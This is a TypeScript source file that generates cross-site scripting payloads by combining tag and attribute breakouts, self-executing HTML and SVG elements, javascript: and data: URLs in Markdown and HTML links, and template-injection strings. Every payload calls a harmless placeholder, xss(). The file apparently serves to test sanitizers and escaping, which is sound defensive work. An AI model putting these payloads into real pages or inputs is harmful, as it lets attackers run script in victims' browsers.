/**
 * Texts that run a script where a page puts them into its markup: by a grammar of tags, events, quotes and tricks of parsers, and
 * addresses that are scripts. Each calls `xss()` and is different from all others.
 */

const calls = ['xss()', 'top.xss()', 'self["xss"]()', 'xss`1`', '(0,xss)()', 'window.xss?.()'];

/** What ends the place that a text may be put into. */
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '`>',
  ']]>',
  '<!--><',
];

/** Elements that run something without a click, with `CALL` where it goes. */
const elements = [
  '<script>CALL</script>',
  '<ScRiPt >CALL</ScRiPt>',
  '<script/x>CALL</script\n>',
  '<scr<script>ipt>CALL</script>',
  '<img src=x onerror=CALL>',
  '<img src="x" OnErRoR="CALL">',
  '<img/src=x/onerror=CALL//',
  '<image href=x onerror=CALL>',
  '<svg onload=CALL>',
  '<svg/onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set onbegin=CALL attributeName=x>',
  '<math><mtext><img src=x onerror=CALL></mtext></math>',
  '<body onload=CALL>',
  '<iframe srcdoc="<script>parent.CALL</script>">',
  '<iframe src="javascript:parent.CALL">',
  '<object data="javascript:CALL">',
  '<embed src="javascript:CALL">',
  '<video src=x onerror=CALL>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL>',
  '<details open ontoggle=CALL>x</details>',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL>',
  '<textarea autofocus onfocus=CALL>',
  '<a href=x autofocus onfocus=CALL tabindex=1>x</a>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=CALL>x</p>',
  '<link rel=stylesheet href=data:text/css, onload=CALL>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<template><script>CALL</script></template><img src=x onerror=CALL>',
  '<form><button autofocus onfocus=CALL formaction="javascript:CALL">x</button></form>',
  '<base href="javascript:CALL//">',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
];

/** Addresses, bare and as Markdown and HTML have them. */
const addresses = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  'java\tscript:CALL',
  '\u0001javascript:CALL',
  'javascript://shop.example/%0aCALL',
  'javascript&colon;CALL',
  'data:text/html,<script>CALL</script>',
  'vbscript:CALL',
];
const links = [
  'ADDRESS',
  '[x](ADDRESS)',
  '![x](ADDRESS)',
  '<ADDRESS>',
  '<a href="ADDRESS">x</a>',
  '[x]: ADDRESS\n[x]',
  'https://shop.example/"onmouseover="CALL',
];

/** Templates of frameworks. */
const templates = [
  '{{constructor.constructor("CALL")()}}',
  '${CALL}',
  '#{CALL}',
  '<%= CALL %>',
  '{{CALL}}',
  '[[CALL]]',
];

/** As many payloads, of each kind in turn. The same number is the same list. */
export function xssPayloads(count: number): string[] {
  const kinds = [
    product(elements, breakouts, (element, breakout) => breakout + element),
    product(addresses, links, (address, link) => link.replace('ADDRESS', address)),
    templates,
    elements.map((element) => element.replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
    elements.map((element) => `<b>${element.replace('>', ' \n>')}</b>`),
  ];
  const found = new Set<string>();
  for (let index = 0; found.size < count; index++) {
    const kind = kinds[index % kinds.length] ?? [];
    // A step that shares no factor with any length reaches all of a list, in another order.
    const text = kind[(index * 7919) % kind.length] ?? '';
    found.add(text.replaceAll('CALL', calls[index % calls.length] ?? ''));
    if (index > count * 100) throw new Error(`The grammar makes only ${found.size} payloads.`);
  }
  return [...found];
}

const product = (first: readonly string[], second: readonly string[], join: (one: string, other: string) => string) =>
  first.flatMap((one) => second.map((other) => join(one, other)));
